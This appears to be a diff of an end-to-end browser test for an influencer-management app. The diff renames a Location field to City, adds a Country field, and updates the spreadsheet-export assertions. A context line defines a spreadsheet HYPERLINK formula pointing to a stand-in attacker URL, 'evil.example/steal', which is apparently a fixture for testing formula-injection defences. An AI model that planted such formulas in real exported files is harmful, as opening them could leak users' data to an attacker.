@@ -27,7 +27,7 @@ FORMULA = '=HYPERLINK("https://evil.example/steal","Click me")'
 HEADER = [
     "Influencer",  # guessed as Name
     "Email",
-    "City",  # guessed as Location
+    "City",
     "Niches",
     "Platform",
     "Username",  # guessed as Handle
@@ -120,7 +120,8 @@ def test_marketer_adds_imports_filters_and_exports_influencers(new_page, live_se
     page.get_by_role("link", name="Add an influencer").first.click()
     expect(page.get_by_role("heading", name="New influencer")).to_be_visible()
     page.get_by_label("Name").fill("Anna Scrub")
-    page.get_by_label("Location").fill("Berlin")
+    page.get_by_label("City").fill("Berlin")
+    page.get_by_label("Country").select_option(label="Germany")
     page.get_by_label("Niches").fill("skincare")
     page.get_by_role("button", name="Save").click()
     expect(page.get_by_text("Anna Scrub added. Add their accounts next.")).to_be_visible()
@@ -197,7 +198,8 @@ def test_marketer_adds_imports_filters_and_exports_influencers(new_page, live_se
     for label, column in [
         ("Name", "Influencer"),
         ("Email", "Email"),
-        ("Location", "City"),
+        ("City", "City"),
+        ("Country", ""),
         ("Niches", "Niches"),
         ("Platform", "Platform"),
         ("Handle", "Username"),
@@ -269,11 +271,11 @@ def test_marketer_adds_imports_filters_and_exports_influencers(new_page, live_se
     sheet = openpyxl.load_workbook(xlsx_path).active
     table = [[cell.value for cell in row] for row in sheet.iter_rows()]
     header, body = table[0], table[1:]
-    assert header[:3] == ["name", "email", "location"]
+    assert header[:4] == ["name", "email", "country", "location"]
     exported = [dict(zip(header, row, strict=True)) for row in body]
     assert [row["handle"] for row in exported] == filtered_handles
     anna, mia = exported
-    assert anna["name"] == "Anna Scrub"
+    assert anna["name"] == "Anna Scrub" and anna["country"] == "DE"
     assert anna["engagement_rate"] == pytest.approx(14.85)
     assert anna["benchmark_ratio"] == pytest.approx(2.475)
     assert anna["followers"] == 4000
